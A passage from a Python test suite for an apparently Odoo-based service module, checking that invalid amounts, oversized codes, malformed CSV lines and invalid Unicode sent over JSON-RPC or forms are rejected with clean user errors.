        kind, __ = self._call(
            "service.maintenance.plan", "create", [[good, {**good, "interval": 0}]]
        )
        self.assertEqual(kind, "error")
        for horizon in (3650, -1, 2.5, "десять лет", 10**12):
            kind, __ = self._call(
                "service.maintenance.plan",
                "service_generate",
                [],
                {"horizon_days": horizon},
                ids=plan.ids,
            )
            self.assertEqual(kind, "error", horizon)
        for value, kwargs in (
            (1100.0, {}),  # lower than the last
            (1e12, {}),  # 1e12 typed for 1200: faster than any meter
            (1e13, {}),  # beyond any meter
            (-5, {}),
            (1300.0, {"date": "2999-01-01 00:00:00"}),
        ):
            kind, __ = self._call(
                "service.equipment", "service_add_reading", [value], kwargs, ids=unit.ids
            )
            self.assertEqual(kind, "error", value)

    # values the business refuses --------------------------------------------

    def test_refused_values(self):
        w = self.world
        supplier_claim = self.env["service.supplier.claim"].create(
            {
                "claim_id": w.claims[0].id,
                "supplier_id": w.customer_b.id,
                "lot_id": w.lots[0].id,
            }
        )
        self.env.flush_all()  # what the harness compares against is in the tables
        for model, ids, vals in (
            ("service.supplier.claim", supplier_claim.ids, {"expected_amount": -50.0}),
            ("service.supplier.claim", supplier_claim.ids, {"recovered_amount": -1.0}),
            ("service.warranty.claim", w.claims[:1].ids, {"refund_amount": -10.0}),
        ):
            kind, __ = self._call(model, "write", [vals], ids=ids)
            self.assertEqual(kind, "error", vals)
        # A part number longer than a btree entry: a sentence, not a database error.
        for code in (NOISE, NOISE[:101]):
            kind, __ = self._call(
                "service.part.crossref",
                "create",
                [{"product_id": self.part.id, "code": code, "code_type": "supplier"}],
            )
            self.assertEqual(kind, "error")
        # Forecast history far enough back to leave the calendar.
        kind, __ = self._call(
            "service.forecast.wizard", "create", [{"history_weeks": 128_249, "horizon": 12}]
        )
        self.assertEqual(kind, "error")
        # Accepted: a serial longer than a btree entry (the warranty lookup's
        # index is a hash, which takes any length).
        kind, __ = self._call(
            "stock.lot",
            "create",
            [{"name": NOISE, "product_id": w.model.id, "company_id": w.company1.id}],
        )
        self.assertEqual(kind, "ok")

    def test_catalog_import_long_numbers_and_prices(self):
        """Lines with numbers too long for the indexes or absurd prices are
        rejected one by one; the rest of the file is imported."""
        header = "code,name,price,oem\n"
        lines = [
            f"{NOISE},Long code,5,",
            f"LN-2,Long OEM,5,{NOISE}",
            "LN-3,Huge price," + "9" * 400 + ",",
            "LN-4,Good part,7.5,OEM-LN-4",
        ]
        env = self._env()
        imp = env["service.part.import"].create(
            {
                "partner_id": self.world.customer_b.id,
                "file": base64.b64encode(("\n".join([header.strip(), *lines]) + "\n").encode()),
                "file_name": "long.csv",
                "col_code": "code",
                "col_name": "name",
                "col_price": "price",
                "col_oem": "oem",
            }
        )
        imp.action_start()
        self.assertEqual(imp._run_import_job(), "done", imp.error)
        self.assertEqual((imp.line_count, imp.rejected_count), (4, 3))
        Crossref = self.env["service.part.crossref"]
        self.assertTrue(Crossref.search([("normalized_code", "=", "OEMLN4")]))
        self.assertFalse(Crossref.search([("normalized_code", "=like", NOISE[:50] + "%")]))


@tagged("post_install", "-at_install", "service_suite")
class TestBadInputJsonRpc(HttpCase):
    """Invalid Unicode through the web client's JSON-RPC, on the suite's
    methods and on any model's create, write and name_search: a JSON error
    with a Russian message (before: an HTML 500, the JSON error carrying the
    UnicodeEncodeError's text could not be encoded itself)."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.world = build_world(cls.env)
        cls.world.users["service_manager"].lang = "ru_RU"

    def _call_kw(self, model, method, args, kwargs=None):
        payload = {
            "jsonrpc": "2.0",
            "method": "call",
            "id": 1,
            "params": {"model": model, "method": method, "args": args, "kwargs": kwargs or {}},
        }
        # json.dumps writes a lone surrogate as the escape "\ud800", as a
        # JavaScript client's JSON.stringify does.
        response = self.url_open(
            "/web/dataset/call_kw",
            data=json.dumps(payload),
            headers={"Content-Type": "application/json"},
        )
        self.assertEqual(response.status_code, 200, response.text[:300])
        return response.json()

    def test_invalid_unicode_over_json_rpc(self):
        self.authenticate(login("service_manager"), login("service_manager"))
        w, text = self.world, INVALID_TEXT[0]
        request = w.requests[0]
        calls = [
            ("product.product", "service_parts_lookup", [text], {}),
            ("product.product", "name_search", [text], {}),
            ("stock.lot", "service_warranty_status", [text], {}),
            ("service.equipment", "name_search", [], {"name": text}),
            ("service.request", "write", [request.ids, {"subject": text}], {}),
            ("service.log.call", "create", [{"partner_id": w.contact_a.id, "subject": text}], {}),
            ("service.request", "search_read", [[("subject", "ilike", "x")]], {text: 1}),
        ]
        for model, method, args, kwargs in calls:
            with self.subTest(model=model, method=method):
                answer = self._call_kw(model, method, args, kwargs)
                error = answer.get("error")
                self.assertTrue(error, answer)
                self.assertEqual(error["data"]["name"], "odoo.exceptions.UserError")
                self.assertRegex(error["data"]["message"], "[а-яА-Я]")
        self.assertNotEqual(request.subject, text)
        # Valid text of any script still goes through.
        answer = self._call_kw("product.product", "service_parts_lookup", ["Котёл №5"])
        self.assertEqual(answer.get("result"), [])

    def test_forms_cannot_carry_invalid_unicode(self):
        """Forms are decoded with replacement (werkzeug): the bytes of an
        encoded surrogate reach the page as U+FFFD, not as a surrogate."""
        page = self.url_open("/service/warranty")
        token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
        page = self.url_open(
            "/service/warranty",
            data=f"csrf_token={token}&serial=AB%ED%A0%80CD",
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        )
        self.assertEqual(page.status_code, 200)
        self.assertIn("AB\ufffd", page.text)


def _short(value):
    text = repr(value)
    return text if len(text) < 160 else text[:150] + "…"
